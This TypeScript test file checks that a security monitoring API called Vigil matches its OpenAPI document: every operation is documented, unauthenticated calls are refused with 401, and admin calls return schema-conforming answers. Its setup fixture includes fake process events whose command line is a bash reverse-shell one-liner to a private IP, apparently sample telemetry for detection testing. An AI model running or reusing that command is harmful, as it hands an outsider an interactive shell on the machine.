// Contract test of the API listener against its own OpenAPI document, on a real server process: the document is
// valid OpenAPI 3.0, every operation is documented (tags, summary, description, a 2xx answer with an example that
// fits its schema), every operation called as an admin answers a documented status with a body matching the
// documented schema, and protected operations refuse unauthenticated calls with 401.
import assert from 'node:assert/strict';
import https from 'node:https';
import { randomUUID } from 'node:crypto';
import { after, before, test } from 'node:test';
import SwaggerParser from '@apidevtools/swagger-parser';
import { Ajv, type ValidateFunction } from 'ajv';
import addFormatsModule from 'ajv-formats';
import { generateKeyPair } from '@vigil/pki';
import { ADMIN_PASSWORD, ApiClient, cleanup, request, startServer, type ServerHandle } from './harness.js';
import { batchBody } from './events.js';

type Schema = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
interface Operation {
  method: string;
  path: string;
  op: Schema;
}

const addFormats = (addFormatsModule as unknown as { default: (ajv: Ajv) => Ajv }).default;
const ajv = new Ajv({ strict: false, allErrors: true });
addFormats(ajv);
const compiled = new WeakMap<object, ValidateFunction>();
function validator(schema: Schema): ValidateFunction {
  let validate = compiled.get(schema);
  if (!validate) compiled.set(schema, (validate = ajv.compile(schema)));
  return validate;
}

let server: ServerHandle;
let admin: ApiClient;
let doc: Schema;
let operations: Operation[];
const ids: Record<string, string> = {};

const ruleText = (id: string, title: string) =>
  `title: ${title}\nid: ${id}\nstatus: experimental\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    CommandLine|contains: contract-marker\n  condition: selection\nlevel: low\n`;

function call(path: string, options: { method: string; token?: string; body?: unknown }): Promise<{ status: number; contentType: string; text: string }> {
  const target = new URL(`${server.apiUrl}${path}`);
  const payload = options.body === undefined ? undefined : Buffer.from(JSON.stringify(options.body));
  return new Promise((resolve, reject) => {
    const req = https.request(
      {
        host: target.hostname,
        port: target.port,
        path: target.pathname + target.search,
        method: options.method,
        ca: server.caPem,
        agent: false,
        headers: { ...(payload ? { 'content-type': 'application/json', 'content-length': payload.length } : {}), ...(options.token ? { authorization: `Bearer ${options.token}` } : {}) },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, contentType: String(res.headers['content-type'] ?? ''), text: Buffer.concat(chunks).toString() }));
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

/** A minimal value valid against `schema` (required properties only), preferring documented examples and defaults. */
function sampleOf(schema: Schema): unknown {
  if (schema.example !== undefined) return schema.example;
  if (schema.default !== undefined) return schema.default;
  if (schema.enum) return schema.enum[0];
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object':
      return Object.fromEntries(((schema.required ?? []) as string[]).map((key) => [key, sampleOf(schema.properties?.[key] ?? {})]));
    case 'array':
      return Array.from({ length: schema.minItems ?? 0 }, () => sampleOf(schema.items ?? {}));
    case 'integer':
    case 'number':
      return schema.minimum ?? 1;
    case 'boolean':
      return true;
    case 'string':
      if (schema.format === 'uuid') return randomUUID();
      if (schema.format === 'date-time') return new Date().toISOString();
      return 'x'.repeat(Math.max(1, schema.minLength ?? 1));
    default:
      return {};
  }
}

function jsonMedia(content: Schema | undefined): Schema | undefined {
  return content?.['application/json'];
}

function mediaExample(media: Schema | undefined): unknown {
  if (!media) return undefined;
  if (media.example !== undefined) return media.example;
  const first = media.examples ? Object.values(media.examples as Record<string, { value: unknown }>)[0] : undefined;
  return first?.value ?? media.schema?.example;
}

before(async () => {
  server = await startServer({ VIGIL_API_RATE_BURST: '1000' });
  admin = await new ApiClient(server).login();
  const reply = await call('/api/v1/openapi.json', { method: 'GET' });
  assert.equal(reply.status, 200);
  doc = JSON.parse(reply.text) as Schema;
  operations = Object.entries(doc.paths as Record<string, Schema>).flatMap(([path, item]) =>
    Object.entries(item)
      .filter(([method]) => ['get', 'post', 'put', 'patch', 'delete'].includes(method))
      .map(([method, op]) => ({ method: method.toUpperCase(), path, op: op as Schema })),
  );

  // Objects the operations with path parameters work on.
  const token = await admin.post('/api/v1/enrollment-tokens', { max_uses: 5, expires_in_s: 3600 });
  ids.enrollmentTokenId = token.body.id;
  ids.enrollmentToken = token.body.token;
  const host = await admin.enrollKeys();
  ids.hostId = host.agentId;
  const events = [1, 2].map((sequence) => ({
    '@timestamp': new Date().toISOString(), 'event.id': randomUUID(), 'event.sequence': sequence, 'event.category': 'process', 'event.action': 'start', 'host.id': host.agentId,
    'process.pid': 700 + sequence, 'process.parent.pid': 1, 'process.executable': '/usr/bin/bash', 'process.name': 'bash', 'process.command_line': 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
    'process.hash.sha256': 'd'.repeat(64), 'user.name': 'root',
  }));
  const batch = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(host.agentId, events), ca: server.caPem, key: host.key, cert: host.cert });
  assert.equal(batch.status, 200, JSON.stringify(batch.body));
  ids.ruleId = randomUUID();
  const rule = await admin.post('/api/v1/rules', { text: ruleText(ids.ruleId, 'Contract rule'), pack: 'contract', file: 'contract.yml' });
  assert.equal(rule.status, 201, JSON.stringify(rule.body));
  const alert = await admin.post('/api/v1/inbound/alerts', { source: 'contract', external_id: 'setup-1', title: 'Contract alert', observables: [{ type: 'sha256', value: 'd'.repeat(64) }] });
  assert.equal(alert.status, 201, JSON.stringify(alert.body));
  ids.alertId = alert.body.id;
  ids.sweepId = alert.body.sweep_id;
});
after(cleanup);

test('the document is valid OpenAPI 3.0', async () => {
  assert.match(String(doc.openapi), /^3\.0\.\d+$/);
  await SwaggerParser.validate(structuredClone(doc) as never);
  for (const path of ['/api/v1/inbound/indicators', '/api/v1/inbound/alerts', '/api/v1/sweeps', '/api/v1/sweeps/{id}', '/metrics', '/api/v1/alerts', '/api/v1/hosts']) {
    assert.ok(doc.paths[path], `${path} is documented`);
  }
});

test('every operation has tags, summary, description, a 2xx answer with a schema and an example that fits it', () => {
  const problems: string[] = [];
  for (const { method, path, op } of operations) {
    const name = `${method} ${path}`;
    if (!op.tags?.length) problems.push(`${name}: no tags`);
    if (!op.summary) problems.push(`${name}: no summary`);
    if (!op.description) problems.push(`${name}: no description`);
    const successes = Object.entries((op.responses ?? {}) as Record<string, Schema>).filter(([code]) => code.startsWith('2'));
    if (!successes.length) problems.push(`${name}: no documented 2xx answer`);
    for (const [code, response] of successes) {
      const [mediaType, media] = Object.entries((response.content ?? {}) as Record<string, Schema>)[0] ?? [];
      if (!media?.schema) {
        problems.push(`${name} ${code}: no schema`);
        continue;
      }
      const example = mediaExample(media);
      if (example === undefined) problems.push(`${name} ${code}: no example`);
      else if (mediaType === 'application/json' && !validator(media.schema)(example)) problems.push(`${name} ${code}: example does not fit: ${ajv.errorsText(validator(media.schema).errors)}`);
    }
    const body = jsonMedia(op.requestBody?.content);
    const bodyExample = mediaExample(body);
    if (body?.schema && bodyExample !== undefined && !validator(body.schema)(bodyExample)) problems.push(`${name}: request example does not fit: ${ajv.errorsText(validator(body.schema).errors)}`);
  }
  assert.deepEqual(problems, []);
});

test('unauthenticated calls to protected operations answer 401', async () => {
  const protectedOps = operations.filter(({ op }) => !(Array.isArray(op.security) && op.security.length === 0));
  assert.ok(protectedOps.length > 30);
  const wrong: string[] = [];
  for (const { method, path, op } of protectedOps) {
    const url = path.replace(/\{[^}]+\}/g, 'contract-unknown');
    const body = op.requestBody ? {} : undefined;
    const reply = await call(url, { method, ...(body !== undefined ? { body } : {}) });
    if (reply.status !== 401) wrong.push(`${method} ${path}: ${reply.status}`);
  }
  assert.deepEqual(wrong, []);
});

test('every operation answers as documented when called as an admin', async () => {
  const key = generateKeyPair();
  const logoutSession = await request(`${server.apiUrl}/api/v1/auth/login`, { body: { username: 'admin', password: ADMIN_PASSWORD }, ca: server.caPem });
  const paramValues: Record<string, string> = {
    '/api/v1/enrollment-tokens/{id}': ids.enrollmentTokenId!,
    '/api/v1/hosts/{id}': ids.hostId!,
    '/api/v1/hosts/{id}/revoke': ids.hostId!,
    '/api/v1/hosts/{id}/events': ids.hostId!,
    '/api/v1/hosts/{id}/inventory': ids.hostId!,
    '/api/v1/hosts/{id}/changes': ids.hostId!,
    '/api/v1/alerts/{id}': ids.alertId!,
    '/api/v1/alerts/{id}/comments': ids.alertId!,
    '/api/v1/rules/{id}': ids.ruleId!,
    '/api/v1/rule-packs/{name}': 'contract-pack',
    '/api/v1/sweeps/{id}': ids.sweepId!,
  };
  const bodies: Record<string, unknown> = {
    'POST /api/v1/auth/login': { username: 'admin', password: ADMIN_PASSWORD },
    'POST /api/v1/enroll': { token: ids.enrollmentToken, hostname: 'contract-host', public_key_pem: key.publicKeyPem },
    'POST /api/v1/users': { username: 'contract-user', password: 'contract-password-0123', role: 'viewer' },
    'POST /api/v1/api-tokens': { name: 'contract', role: 'integration' },
    'POST /api/v1/rules': { text: ruleText(randomUUID(), 'Second contract rule'), pack: 'contract', file: 'second.yml' },
    'POST /api/v1/rules/validate': { text: ruleText(randomUUID(), 'Validated rule') },
    'POST /api/v1/rules/test': { text: ruleText(randomUUID(), 'Tested rule'), events: [{ 'event.category': 'process', 'event.id': 'e1', 'process.command_line': 'echo contract-marker' }] },
    'POST /api/v1/rules/retro-hunt': { text: ruleText(randomUUID(), 'Hunted rule') },
    'PUT /api/v1/rule-packs/{name}': { version: '1', files: [{ file: 'pack-rule.yml', text: ruleText(randomUUID(), 'Pack rule') }] },
    'PATCH /api/v1/alerts/{id}': { status: 'acknowledged', assignee: 'admin' },
    'PATCH /api/v1/rules/{id}': { enabled: false },
    'POST /api/v1/hosts/{id}/revoke': { reason: 'contract test' },
    'POST /api/v1/inbound/alerts': { source: 'contract', external_id: 'call-1', title: 'Pushed in the contract test', severity: 'low' },
  };
  const tokens: Record<string, string> = { 'POST /api/v1/auth/logout': logoutSession.body.token };
  // Operations Vigil's own modules define must succeed with the requests above; others need a documented status.
  const mustSucceed = new Set([...Object.keys(bodies), ...Object.keys(tokens)]);
  for (const { method, path } of operations) if (method === 'GET' && (!path.includes('{') || paramValues[path])) mustSucceed.add(`${method} ${path}`);
  for (const name of ['DELETE /api/v1/enrollment-tokens/{id}', 'DELETE /api/v1/rules/{id}', 'DELETE /api/v1/rule-packs/{name}', 'POST /api/v1/inbound/indicators']) mustSucceed.add(name);
  const rank = (o: Operation) => (o.method === 'DELETE' ? 3 : o.path.endsWith('/revoke') ? 2 : o.method === 'GET' ? 0 : 1);
  const problems: string[] = [];
  let succeeded = 0;
  for (const operation of [...operations].sort((a, b) => rank(a) - rank(b))) {
    const { method, path, op } = operation;
    const name = `${method} ${path}`;
    const url = path.replace(/\{[^}]+\}/g, () => paramValues[path] ?? 'contract-unknown');
    const bodyMedia = jsonMedia(op.requestBody?.content);
    const body = bodies[name] ?? (bodyMedia ? (mediaExample(bodyMedia) ?? sampleOf(bodyMedia.schema ?? {})) : undefined);
    const reply = await call(url, { method, token: tokens[name] ?? admin.token, ...(body !== undefined ? { body } : {}) });
    const documented = (op.responses ?? {}) as Record<string, Schema>;
    const response = documented[String(reply.status)] ?? documented.default;
    if (!response) {
      problems.push(`${name}: answered ${reply.status}, documented ${Object.keys(documented).join(', ')}: ${reply.text.slice(0, 300)}`);
      continue;
    }
    if (mustSucceed.has(name) && (reply.status < 200 || reply.status > 299)) problems.push(`${name}: expected success, got ${reply.status}: ${reply.text.slice(0, 300)}`);
    if (reply.status >= 200 && reply.status <= 299) succeeded++;
    const [mediaType, media] = Object.entries((response.content ?? {}) as Record<string, Schema>)[0] ?? [];
    if (!media?.schema) continue;
    if (mediaType === 'application/json') {
      let parsed: unknown;
      try {
        parsed = JSON.parse(reply.text);
      } catch {
        problems.push(`${name} ${reply.status}: answer is not JSON: ${reply.text.slice(0, 200)}`);
        continue;
      }
      const validate = validator(media.schema);
      if (!validate(parsed)) problems.push(`${name} ${reply.status}: answer does not fit the documented schema: ${ajv.errorsText(validate.errors)}`);
    } else if (!reply.contentType.startsWith(mediaType ?? '')) {
      problems.push(`${name} ${reply.status}: content type ${reply.contentType}, documented ${mediaType}`);
    }
  }
  assert.deepEqual(problems, []);
  assert.ok(succeeded >= 40, `${succeeded} operations succeeded`);
});
